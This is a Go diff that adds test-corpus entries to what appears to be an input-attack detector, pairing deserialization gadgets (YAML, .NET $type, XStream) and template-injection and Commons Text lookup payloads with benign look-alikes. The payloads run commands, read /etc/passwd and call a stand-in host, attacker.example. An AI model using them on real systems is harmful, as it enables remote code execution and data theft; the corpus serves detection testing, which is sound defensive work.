@@ -75,3 +75,57 @@ func init() {
 		corpusEntry{lJ, "template", "${firstName} ${lastName}"},
 	)
 }
+
+// Deserialization gadgets: type tags and gadget classes that make a YAML,
+// JSON, XAML or XStream deserializer build objects the sender chose; and
+// the type tags and names of ordinary documents.
+func init() {
+	attacks = append(attacks,
+		attackEntry{lJ, "config", "!!python/object/apply:os.system [\"id\"]", "deserialization-gadget", encURL},
+		attackEntry{lQ, "yaml", "!!python/object/new:subprocess.check_output [[\"id\"]]", "deserialization-gadget", encAll},
+		attackEntry{lJ, "spec", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]", "deserialization-gadget", 0},
+		attackEntry{lJ, "doc", "--- !ruby/object:Gem::Installer\ni: x", "deserialization-gadget", encURL},
+		attackEntry{lJ, "data", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList","$values":["cmd","/c calc"]}}`, "deserialization-gadget", encURL},
+		attackEntry{lJ, "obj", `{"$type": "System.Diagnostics.Process, System"}`, "deserialization-gadget", 0},
+		attackEntry{lQ, "xaml", `<ObjectDataProvider MethodName="Start" ObjectType="{x:Type Diag:Process}">`, "deserialization-gadget", encURL},
+		attackEntry{lJ, "xml", `<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>`, "deserialization-gadget", encURL},
+		attackEntry{lQ, "xml", `<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>`, "deserialization-gadget", encURL},
+		attackEntry{lJ, "xml", `<map><entry><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>`, "deserialization-gadget", 0},
+	)
+	benign = append(benign,
+		corpusEntry{lJ, "yaml", "photo: !!binary R0lGODlhDAAMAIQAAP"},
+		corpusEntry{lJ, "yaml", "version: !!str 1.10"},
+		corpusEntry{lJ, "message", "Wow!! python/django is great"},
+		corpusEntry{lJ, "data", `{"$type":"MyShop.Models.Order, MyShop","id":42}`},
+		corpusEntry{lJ, "ld", `{"@context":"https://schema.org","@type":"Product","name":"Lamp"}`},
+		corpusEntry{lJ, "message", "Use XStream's allow list; never deserialize untrusted XML."},
+		corpusEntry{lJ, "note", "Serialization format changed in v2"},
+	)
+}
+
+// Template engines reached by name (Twig's filters, JSP EL's implicit
+// objects) and Apache Commons Text's lookups (Text4Shell); and the
+// placeholders that look like them.
+func init() {
+	attacks = append(attacks,
+		attackEntry{lQ, "name", "{{['id']|filter('system')}}", "ssti", encAll},
+		attackEntry{lJ, "title", "{{['cat /etc/passwd']|map('passthru')|join}}", "ssti", 0},
+		attackEntry{lQ, "q", `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`, "ssti", encURL},
+		attackEntry{lQ, "q", "${applicationScope}", "ssti", encAll},
+		attackEntry{lJ, "name", `${pageContext.request.getSession().setAttribute("admin",true)}`, "ssti", 0},
+		attackEntry{lQ, "q", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "commons-text-lookup", encAll},
+		attackEntry{lJ, "text", "${url:UTF-8:http://attacker.example/x}", "commons-text-lookup", encURL},
+		attackEntry{lQ, "q", "${file:utf-8:/etc/passwd}", "commons-text-lookup", encURL},
+		attackEntry{lH, "user-agent", "${dns:address|attacker.example}", "commons-text-lookup", 0},
+		attackEntry{lQ, "q", "${${lower:d}ns:address|attacker.example}", "commons-text-lookup", encURL},
+	)
+	benign = append(benign,
+		corpusEntry{lJ, "template", "{{ items|filter(i => i.active) }}"},
+		corpusEntry{lJ, "template", "{{ name|sort('asc') }}"},
+		corpusEntry{lJ, "template", "${sessionScope.user.name}"},
+		corpusEntry{lJ, "config", "${url:https://api.example.com/v2}"},
+		corpusEntry{lJ, "config", "${dns:cache.internal}"},
+		corpusEntry{lJ, "config", "${file:app.yml}"},
+		corpusEntry{lJ, "message", "The script: javascript: URLs are blocked"},
+	)
+}
